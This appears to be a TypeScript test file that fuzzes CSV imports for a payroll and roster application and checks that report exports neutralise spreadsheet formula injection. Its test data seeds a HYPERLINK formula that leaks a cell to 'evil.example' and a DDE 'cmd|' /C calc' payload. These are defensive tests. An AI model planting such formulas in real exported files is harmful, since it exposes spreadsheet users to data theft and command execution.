/**
 * Hostile files (short run; `npx tsx scripts/fuzz-import.ts` is the long one): seeded mutations of the
 * fixture CSVs end in a clean rejection or a correct import — in-process and through the API (never a 500)
 * — and the report CSV writer neutralises every text cell that starts with = + - @ (formula injection).
 */
import { loadDemoCity } from '../../src/services/demoCity.ts';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IsoDate } from '../../src/domain/date.ts';
import { csvCell, renderCsv } from '../../src/reports/csv.ts';
import { computeReport } from '../../src/reports/generate.ts';
import { makeApp, type TestApp } from '../api/helpers.ts';
import { makeCase, runFuzz, seedFiles } from './fuzzer.ts';
import { integrityOf, rng } from './helpers.ts';
import { demoCityStore, type DemoStore } from '../support/demoStore.ts';

const NOW = '2026-11-28T02:00:00.000Z';
const SEED = 20261128;

describe('fuzzed imports', () => {
  // the demo city on the test's engine; the campaign is bounded by time (8 s), so PostgreSQL runs fewer cases in it
  let demo: DemoStore;
  beforeAll(async () => {
    demo = await demoCityStore(NOW);
  });
  afterAll(() => demo.close());

  it('every mutated file is a clean rejection or a correct import, never a throw, a hang or a partial write', async () => {
    const fig = await runFuzz(demo.store, { seed: SEED, budgetMs: 8_000, maxCases: 2_000, caseLimitMs: 10_000, now: NOW });
    expect(fig.failures).toEqual([]);
    expect(fig.threw).toBe(0);
    expect(fig.cases).toBeGreaterThan(60);
    expect(fig.rejected).toBeGreaterThan(0);
    expect(await integrityOf(demo.store.sql)).toBe('ok');
  }, 60_000);

  it('the mutations cover every kind of hostility named in the issue', () => {
    const seeds = seedFiles();
    expect(seeds.length).toBeGreaterThan(20);
    const seen = new Set(Array.from({ length: 400 }, (_, n) => makeCase(SEED, n, seeds).mutations).flat());
    for (const m of ['flipBytes', 'utf16', 'latin1Reencode', 'unbalancedQuote', 'quotedNewlines', 'hugeField', 'manyColumns', 'formulaInjection', 'binary']) expect(seen).toContain(m);
  });
});

describe('fuzzed imports through the API', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await makeApp({ seed: false, limits: { importsPerMinute: 100_000, failedAuthAttempts: 100_000 } });
    await loadDemoCity(app.store, NOW);
  });
  afterAll(() => app.close());

  it('answers 201/200/422 (or a 4xx for the transport), never 500; a 422 lists problems with line numbers', async () => {
    const seeds = seedFiles();
    const statuses: Record<number, number> = {};
    for (let n = 0; n < 40; n++) {
      const c = makeCase(SEED + 1, n, seeds);
      const multipart = n % 4 === 0;
      const boundary = '----huxinfuzz' + n;
      const r = await app.as(n % 2 ? 'importer' : 'supervisor', {
        method: 'POST',
        url: `/api/v1/imports/${c.kind}?fileName=fuzz-${n}.csv`,
        headers: { 'content-type': multipart ? `multipart/form-data; boundary=${boundary}` : 'application/octet-stream' },
        payload: multipart
          ? Buffer.concat([
              Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="fuzz-${n}.csv"\r\nContent-Type: text/csv\r\n\r\n`),
              c.bytes,
              Buffer.from(`\r\n--${boundary}--\r\n`),
            ])
          : c.bytes,
      });
      statuses[r.statusCode] = (statuses[r.statusCode] ?? 0) + 1;
      expect([200, 201, 400, 413, 422], `case ${SEED + 1}/${n} ${c.mutations.join('+')}: ${r.body.slice(0, 300)}`).toContain(r.statusCode);
      const body = r.json();
      if (r.statusCode === 422) {
        expect(body.error.code).toBe('IMPORT_REJECTED');
        expect(body.error.details.problems.length).toBeGreaterThan(0);
        for (const p of body.error.details.problems) expect(Number.isInteger(p.line) && p.line >= 0).toBe(true);
      }
      if (r.statusCode >= 400) expect(body.error.message).not.toMatch(/at .*\.ts:\d+|SqliteError|DatabaseError|TypeError/);
    }
    expect((statuses[422] ?? 0) + (statuses[201] ?? 0)).toBeGreaterThan(20);
    expect(await integrityOf(app.store.sql)).toBe('ok');
  }, 60_000);
});

describe('exported CSV neutralises formulas', () => {
  const DANGEROUS = /^[=+\-@\t\r]/;
  const NUMBER = /^-?\d+(\.\d+)?$/;

  it('csvCell: a text cell never starts with = + - @ tab or CR, whatever it holds', () => {
    const r = rng(7);
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', 'A', '1', '中', ' ', "'"];
    for (let i = 0; i < 5_000; i++) {
      const value = Array.from({ length: 1 + Math.floor(r() * 12) }, () => alphabet[Math.floor(r() * alphabet.length)]).join('');
      for (const kind of ['text', 'number'] as const) {
        const cell = csvCell(value, kind);
        const parsed = (parse(cell + '\r\n', { relax_column_count: true }) as string[][])[0]?.[0] ?? '';
        if (kind === 'number' && NUMBER.test(value)) expect(parsed).toBe(value);
        else expect(DANGEROUS.test(parsed), `${kind} ${JSON.stringify(value)} → ${JSON.stringify(cell)}`).toBe(false);
      }
    }
  });

  it('a whole report rendered from data holding formulas has no live formula in any cell', async () => {
    const demo = await demoCityStore(NOW);
    try {
      const s = demo.store.sql;
      await s.run("UPDATE projects SET name = '=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")' WHERE id = 1");
      await s.run("UPDATE projects SET name = '@SUM(1+1)*cmd|'' /C calc''!A0', county = '+信都区' WHERE id = 2");
      await s.run("UPDATE employers SET name = '-2+3' || name");
      await s.run("UPDATE roster_entries SET name = '=1+1' || name");
      await s.run("UPDATE payroll_rows SET name = '=1+1' || name");
      const { report } = await computeReport(demo.store, '2026-11-27' as IsoDate);
      const files = renderCsv(report);
      expect(files.length).toBeGreaterThan(2);
      let cells = 0;
      let formulas = 0;
      for (const f of files) {
        const rows = parse(f.content.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
        for (const row of rows) {
          for (const cell of row) {
            cells++;
            if (/HYPERLINK|SUM\(|=1\+1|-2\+3|\+信都区/.test(cell)) formulas++;
            if (!NUMBER.test(cell)) expect(DANGEROUS.test(cell), `${f.name}: ${JSON.stringify(cell)}`).toBe(false);
          }
        }
      }
      expect(cells).toBeGreaterThan(100);
      // the injected values are in the export (as text), so the check above really saw them
      expect(formulas).toBeGreaterThan(0);
    } finally {
      await demo.close();
    }
  });
});
